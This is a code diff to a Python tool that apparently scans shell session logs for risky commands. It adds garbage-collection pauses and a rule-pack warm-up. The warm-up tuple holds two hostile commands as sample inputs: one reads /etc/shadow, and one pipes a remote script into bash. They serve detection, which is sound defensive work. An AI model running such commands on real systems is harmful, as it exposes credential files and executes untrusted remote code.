@@ -39,7 +39,7 @@ from sessionguard.alerting.text import visible
 from sessionguard.archive.scanning import merge_stats
 from sessionguard.masking.masker import mask_secrets
 from sessionguard.rules import RuleError, RulePack
-from sessionguard.session.engine import CommandAlert, EngineStats, SanitizedLine, SessionEngine
+from sessionguard.session.engine import CommandAlert, EngineStats, SanitizedLine, SessionEngine, _cyclic_gc_paused
 from sessionguard.session.records import InputProblem, MalformedEvent, SessionEvent, decode_input, read_input
 from sessionguard.severity import Severity
 
@@ -146,10 +146,11 @@ def scan_sessions(
     """Each session scanned whole (its pending commands flushed at its end), and its records rendered."""
     texts: list[str] = []
     alerts: list[CommandAlert] = []
-    for events in sessions:
-        output = renderer.render([*engine.scan(events), *engine.finish()])
-        texts.append(output.text)
-        alerts += output.alerts
+    with _cyclic_gc_paused():  # as the engine pauses it, and also while the sessions' events are made (_scan_task)
+        for events in sessions:
+            output = renderer.render([*engine.scan(events), *engine.finish()])
+            texts.append(output.text)
+            alerts += output.alerts
     return ScanOutput("".join(texts), alerts)
 
 
@@ -236,7 +237,7 @@ _LINE_NUMBER: Final = re.compile(r"line ([0-9]+)")
 
 def read_piece(piece: Piece) -> PieceEvents:
     """A piece's events, grouped by session, and its problems, located in the whole input."""
-    result = PieceEvents([], {})
+    shift: int | None = None
     if not piece.first_line:
         items: Iterator[SessionEvent | InputProblem] = read_input(piece.text, piece.source)
     else:
@@ -244,10 +245,17 @@ def read_piece(piece: Piece) -> PieceEvents:
         marker = next(items)
         if not isinstance(marker, InputProblem) or marker.location != "line 1":
             raise AssertionError("read_input no longer reads JSON Lines line by line")  # a test says where
-    shift = piece.first_line - 2  # the piece's second line (its first own line) is line `first_line`
+        shift = piece.first_line - 2  # the piece's second line (its first own line) is line `first_line`
+    with _cyclic_gc_paused():  # the events make no reference cycles; the collector's passes over them cost ~20 %
+        return _grouped(items, shift)
+
+
+def _grouped(items: Iterator[SessionEvent | InputProblem], shift: int | None) -> PieceEvents:
+    """Events grouped by session and problems, their line numbers moved by `shift` (None: as they are)."""
+    result = PieceEvents([], {})
     for item in items:
         if isinstance(item, InputProblem):
-            if piece.first_line:
+            if shift is not None:
                 where = _LINE_NUMBER.sub(lambda number: f"line {int(number[1]) + shift}", item.location, count=1)
                 result.problems.append(InputProblem(item.source, where, item.reason))
             else:
@@ -380,8 +388,19 @@ def process_pool(jobs: int, settings: ScanSettings) -> ProcessPoolExecutor:
     """`jobs` workers, each with a rule pack: forked, they share the one loaded here (copied on write; a broken rule
     file fails here, before anything is written), else each loads its own, once."""
     context = _start_context()
-    pack = RulePack.load(settings.rules) if context.get_start_method() == "fork" else None
+    pack = None
+    if context.get_start_method() == "fork":
+        pack = RulePack.load(settings.rules)
+        for command in _FIRST_SEARCHES:
+            pack.match(command)
     return ProcessPoolExecutor(jobs, mp_context=context, initializer=_start_worker, initargs=(settings, pack))
+
+
+# The pack compiles each pattern set on its first search (~0.1 s for the Linux sets): these commands, which reach
+# the one-command set and the segment and whole-line sets, make this process compile them before the workers are
+# forked, so that they inherit compiled sets instead of each compiling its own. Only a warm-up: any set they miss
+# is compiled where it is first searched, as always.
+_FIRST_SEARCHES: Final = ("cat /etc/shadow", "curl -s http://198.51.100.7/x.sh | bash")
 
 
 def _start_context() -> multiprocessing.context.BaseContext:
